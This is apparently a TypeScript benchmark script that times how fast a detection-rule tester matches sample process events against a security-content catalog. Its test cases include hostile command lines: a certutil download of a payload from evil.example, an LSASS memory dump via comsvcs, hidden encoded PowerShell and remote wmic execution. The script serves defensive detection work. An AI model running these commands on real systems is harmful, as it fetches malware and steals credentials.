/**
 * `npx tsx scripts/bench-tester.ts`: prints figures, asserts nothing. Loads the real corpus from
 * ../shared/corpora/security_content (or CATALOG_CONTENT), compiles the tester catalog once and
 * reports the median / p95 time of matchEvent (one built process event against every rule) for a
 * few representative command lines, with and without near misses (200 runs each). With
 * `--reference` it also times matchEventReference (the straightforward evaluation) for comparison.
 */
import { existsSync } from "node:fs"

import { loadCatalog } from "../lib/catalog/load.node.ts"
import { buildProcessEvents } from "../lib/tester/event.ts"
import { compileCatalog, matchEvent, matchEventReference, type CompiledCatalog, type MatchOptions, type TesterInput } from "../lib/tester/match.ts"

const CORPUS = process.env.CATALOG_CONTENT ?? "../shared/corpora/security_content"
if (!existsSync(CORPUS.split(",")[0] ?? "")) {
  console.log(`bench-tester: ${CORPUS} is absent; nothing to measure`)
  process.exit(0)
}
const RUNS = 200
const withReference = process.argv.includes("--reference")

function quantile(xs: number[], q: number): number {
  const s = [...xs].sort((a, b) => a - b)
  return s[Math.min(s.length - 1, Math.floor(s.length * q))] ?? 0
}

const t0 = performance.now()
const catalog = loadCatalog({ roots: CORPUS.split(",") })
const loadMs = performance.now() - t0
const t1 = performance.now()
const compiled = compileCatalog(catalog.detections)
const compileMs = performance.now() - t1

const CASES: Array<[string, { cmd: string; parent?: string; user?: string; host?: string }]> = [
  ["wmic remote", { cmd: 'wmic /node:10.1.2.3 process call create "cmd.exe /c whoami"', parent: "cmd.exe", user: "CORP\\alice", host: "ws-042" }],
  ["encoded powershell", { cmd: "powershell.exe -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", parent: "winword.exe" }],
  ["certutil -urlcache", { cmd: "certutil.exe -urlcache -split -f http://evil.example/payload.exe C:\\Users\\Public\\p.exe", parent: "cmd.exe" }],
  ["rundll32 comsvcs minidump", { cmd: "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full", parent: "powershell.exe" }],
  ["benign notepad", { cmd: "notepad.exe a.txt", parent: "explorer.exe" }],
]

type Fn = (c: CompiledCatalog, i: TesterInput, o?: MatchOptions) => ReturnType<typeof matchEvent>

function time(fn: Fn, input: TesterInput, options: MatchOptions): { median: number; p95: number; fired: number; near: number; undecided: number } {
  let report = fn(compiled, input, options)
  for (let i = 0; i < 10; i++) report = fn(compiled, input, options) // warm-up
  const xs: number[] = []
  for (let i = 0; i < RUNS; i++) {
    const t = performance.now()
    report = fn(compiled, input, options)
    xs.push(performance.now() - t)
  }
  return { median: quantile(xs, 0.5), p95: quantile(xs, 0.95), fired: report.counts.fired, near: report.counts.nearMisses, undecided: report.counts.undecided }
}

console.log(`corpus ${CORPUS}: ${catalog.detections.length} detections, ${compiled.rules.length} analysed; load ${loadMs.toFixed(0)} ms, compileCatalog ${compileMs.toFixed(0)} ms`)
const rows: string[][] = [["case", "impl", "near misses", "median ms", "p95 ms", "fired", "near", "undecided"]]
const impls: Array<[string, Fn]> = [["matchEvent", matchEvent]]
if (withReference) impls.push(["reference", matchEventReference])
for (const [label, input] of CASES) {
  const built = { built: buildProcessEvents(input) }
  for (const [name, fn] of impls) {
    for (const nearMisses of [true, false]) {
      const r = time(fn, built, { nearMisses })
      rows.push([label, name, nearMisses ? "yes" : "no", r.median.toFixed(3), r.p95.toFixed(3), String(r.fired), String(r.near), String(r.undecided)])
    }
  }
}
const widths = rows[0]!.map((_, i) => Math.max(...rows.map((r) => r[i]!.length)))
for (const r of rows) console.log(r.map((c, i) => (i === 0 ? c.padEnd(widths[i]!) : c.padStart(widths[i]!))).join("  "))
